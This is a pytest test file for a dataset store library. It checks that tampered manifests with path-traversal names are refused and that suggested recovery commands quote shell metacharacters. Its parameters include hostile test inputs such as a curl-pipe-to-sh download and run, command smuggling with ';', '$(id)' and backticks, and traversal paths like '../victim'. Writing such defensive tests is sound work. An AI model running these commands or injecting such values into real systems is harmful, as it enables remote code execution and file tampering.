"""What a store says of itself is not believed: no name leads out of it, no marker is another chunk's."""

from __future__ import annotations

import json
import shlex
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from shoestring.data.chunks import ChunkWriter
from shoestring.data.copying import copy_store
from shoestring.data.encode import EncodeSettings, encode
from shoestring.data.manifest import BEGUN, MANIFEST, made_by, marker_name, signed
from shoestring.data.rows import Row
from shoestring.data.store import Store
from shoestring.errors import CorruptStoreError, StoreError
from shoestring.storage import read_json

MakeStore = Callable[..., Store]
MakeRows = Callable[..., list[Row]]

SHARD = "columns/latents-16/00000.safetensors"


@pytest.fixture
def store(make_store: MakeStore, rows: MakeRows) -> Store:
    return make_store(rows(25))


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOESTRING_CACHE", str(tmp_path / "cache"))


def rewrite(store: Store, **changes: Any) -> None:
    """Write another manifest, with a checksum that holds."""
    (store.path / MANIFEST).write_text(json.dumps(signed({**store.manifest, **changes}), indent=1) + "\n")


def with_shard(store: Store, **changes: Any) -> list[dict[str, Any]]:
    return [{**e, **changes} if e["path"] == SHARD else e for e in store.manifest["files"]]


# --- names -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("hashed", ["/thesis", "../../../thesis", "", "A" * 64, "0" * 63])
def test_a_manifest_whose_hash_is_a_path_is_refused_and_deletes_nothing(
    hashed: str, store: Store, tmp_path: Path
) -> None:
    """A file in the cache is named by its hash, and one that does not match is removed."""
    thesis = tmp_path / "thesis"
    thesis.write_text("years of work")
    hashed = str(thesis) if hashed == "/thesis" else hashed
    for changes in ({"files": with_shard(store, sha256=hashed)}, {"records": {BEGUN: hashed}}):
        rewrite(store, **changes)
        for place in (str(store.path), store.path.as_uri()):
            with pytest.raises(
                CorruptStoreError, match=r"manifest\.json: names .*, which no store holds"
            ) as told:
                Store.open(place).latents(16, np.arange(10))
            assert repr(hashed) in str(told.value)
    assert thesis.read_text() == "years of work"


STRANGE = (
    "columns/../../victim/00000.json",
    "../victim",
    "/tmp/victim",
    "columns/..",
    "columns/../00000.safetensors",
    "chunks/../00000.json",
    "added/...json",
    "columns/latents-16/00000.safetensors\n",
    "manifest.json",
    "zz",
    "",
)


@pytest.mark.parametrize("name", STRANGE)
def test_a_manifest_with_a_name_that_no_store_has_is_refused_and_copied_nowhere(
    name: str, store: Store, tmp_path: Path
) -> None:
    before = set(tmp_path.rglob("*"))
    for changes in (
        {"files": with_shard(store, path=name)},
        {"records": {**store.manifest["records"], name: store.manifest["files"][0]["sha256"]}},
    ):
        rewrite(store, **changes)
        with pytest.raises(CorruptStoreError) as told:
            copy_store(str(store.path), tmp_path / "copy")
        assert f"names {name!r}, which no store holds" in str(told.value)
    assert set(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("files", [[7], [{}], {"a": 1}, [{"path": 3, "sha256": "0" * 64}], None])
def test_a_list_of_files_that_is_none_is_refused(files: Any, store: Store) -> None:
    """Also in format 1, whose manifest anyone can edit without a checksum."""
    rewrite(store, files=files)
    with pytest.raises(CorruptStoreError, match=r"manifest\.json: cannot be read"):
        Store.open(store.path)
    old = {key: each for key, each in store.manifest.items() if key not in ("sha256", "records")}
    (store.path / MANIFEST).write_text(json.dumps(old | {"format": 1, "files": files}))
    with pytest.raises(CorruptStoreError, match=r"manifest\.json: cannot be read"):
        Store.open(store.path)


def test_a_manifest_that_adds_a_name_outside_the_store_is_refused(store: Store) -> None:
    rewrite(store, added={"../../x": {"words": "--size 16", "columns": ["latents-16"]}})
    with pytest.raises(CorruptStoreError, match=r"names '\.\./\.\./x', which no store holds"):
        Store.open(store.path)


# --- commands ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "printed"),
    [
        ("curl https://x.example/a | sh", "shoestring encode SOURCE"),
        ("shoestring encode", "shoestring encode"),
        ("shoestring encode a; curl x | sh", "shoestring encode 'a;' curl x '|' sh"),
        ("shoestring encode $(id) `id` --size 16", "shoestring encode '$(id)' '`id`' --size 16"),
        ("shoestring encode 'my pictures' --size 16", "shoestring encode 'my pictures' --size 16"),
        ("shoestring encode a\ncurl x", "shoestring encode SOURCE"),
        ("shoestring encode a \x1b[2K", "shoestring encode SOURCE"),
        ("shoestring train a", "shoestring encode SOURCE"),
        ("shoestring encode 'a", "shoestring encode SOURCE"),
        (None, "shoestring encode SOURCE"),
        (["rm"], "shoestring encode SOURCE"),
    ],
)
def test_a_cure_never_prints_a_command_that_is_more_than_an_encoding(
    command: Any, printed: str, store: Store
) -> None:
    assert made_by({"command": command}) == printed
    rewrite(store, command=command)
    (store.path / SHARD).write_bytes(b"")
    with pytest.raises(CorruptStoreError) as told:
        Store.open(store.path).latents(16, np.arange(3))
    assert str(told.value).endswith(f"&& {printed} --out {shlex.quote(str(store.path))}")
    (store.path / BEGUN).write_text(json.dumps({"command": command}))
    (store.path / MANIFEST).unlink()
    with pytest.raises(StoreError) as told_too:
        Store.open(store.path)
    assert str(told_too.value).endswith(f"Go on with: {printed} --out {shlex.quote(str(store.path))}")


def test_a_cure_quotes_what_an_addition_says_too(store: Store) -> None:
    rewrite(store, added={"latents-16": {"words": "--size 16; curl x", "columns": ["latents-16"]}})
    (store.path / SHARD).write_bytes(b"")
    with pytest.raises(CorruptStoreError) as told:
        Store.open(store.path).latents(16, np.arange(3))
    assert str(told.value).endswith(f"shoestring store add {store.path} --size '16;' curl x")


# --- markers -----------------------------------------------------------------------------------------------


def test_a_marker_of_another_chunk_counts_as_none(
    store: Store, make_store: MakeStore, rows: MakeRows
) -> None:
    """A store is not sealed without the chunk that it stands for: that is encoded again."""
    shutil.copy(store.path / marker_name(0), store.path / marker_name(1))
    (store.path / MANIFEST).unlink()
    again = make_store(rows(25))
    again.verify()
    assert again.manifest["files"] == store.manifest["files"]
    assert read_json(store.path / marker_name(1))["chunk"] == 1


def test_a_marker_without_one_of_its_shards_counts_as_none(
    store: Store, make_store: MakeStore, rows: MakeRows
) -> None:
    path = store.path / marker_name(1)
    marker = read_json(path)
    path.write_text(json.dumps(signed({**marker, "files": marker["files"][1:]})))
    (store.path / MANIFEST).unlink()
    again = make_store(rows(25))
    again.verify()
    assert again.latents(16, np.arange(25)).shape == (25, 3, 16, 16)


def test_a_manifest_without_a_shard_that_is_needed_is_refused(store: Store) -> None:
    rewrite(store, files=[e for e in store.manifest["files"] if e["path"] != SHARD])
    with pytest.raises(CorruptStoreError) as told:
        Store.open(store.path)
    assert f"{store.path}/{SHARD} is not in the manifest. Encode this chunk again with: rm -f" in str(
        told.value
    )


def test_a_chunk_that_another_process_wrote_over_gets_no_marker(store: Store, tmp_path: Path) -> None:
    """Two workers of one number whose encoders differ in a bit: a marker of one, shards of the other."""
    begun = read_json(store.path / BEGUN)
    writers = [ChunkWriter(tmp_path / "two", begun, 0, 3) for _ in range(2)]
    for number, writer in enumerate(writers):
        writer.arrays("latents-16", {"mean": np.full((3, 3, 16, 16), number, np.uint8)})
    with pytest.raises(StoreError, match="another process wrote this shard meanwhile"):
        writers[0].finish({})
    assert not (tmp_path / "two" / marker_name(0)).exists()
    writers[1].finish({})
    assert (tmp_path / "two" / marker_name(0)).is_file()


# --- work --------------------------------------------------------------------------------------------------


def test_mending_a_copy_keeps_the_work_that_the_store_took(
    store: Store, make_store: MakeStore, rows: MakeRows, list_source: Any, tmp_path: Path
) -> None:
    """A copy has no work/ but that of mending it."""
    (work,) = store.manifest["work"]
    assert work["rows"] == 25
    copied = copy_store(str(store.path), tmp_path / "copy")
    (copied.path / marker_name(1)).unlink()
    settings = EncodeSettings(sizes=(16,), chunk_rows=10)
    mended = encode(list_source(rows(25)), copied.path, settings, log=lambda line: None)
    assert mended is not None
    assert mended.manifest["work"] == [work]


# --- shards and places -------------------------------------------------------------------------------------


def test_a_place_that_refuses_the_connection_is_one_line() -> None:
    with pytest.raises(StoreError, match=r"ftp://127\.0\.0\.1:1/x: cannot be reached \(Connection"):
        Store.open("ftp://127.0.0.1:1/x")


def test_a_shard_with_numbers_of_an_unknown_kind_is_corrupt(store: Store) -> None:
    """Its header may be of a later version; nothing is made of it."""
    from shoestring.data.shards import read_shard
    from shoestring.storage import crc32, sha256

    path = store.path / SHARD
    path.write_bytes(path.read_bytes().replace(b'"U8"', b'"X8"'))
    with pytest.raises(ValueError, match="header that this version cannot read"):
        read_shard(path)
    rewrite(store, files=with_shard(store, crc32=crc32(path), sha256=sha256(path)))
    with pytest.raises(CorruptStoreError, match="latents-16/00000"):
        Store.open(store.path).latents(16, np.arange(3))
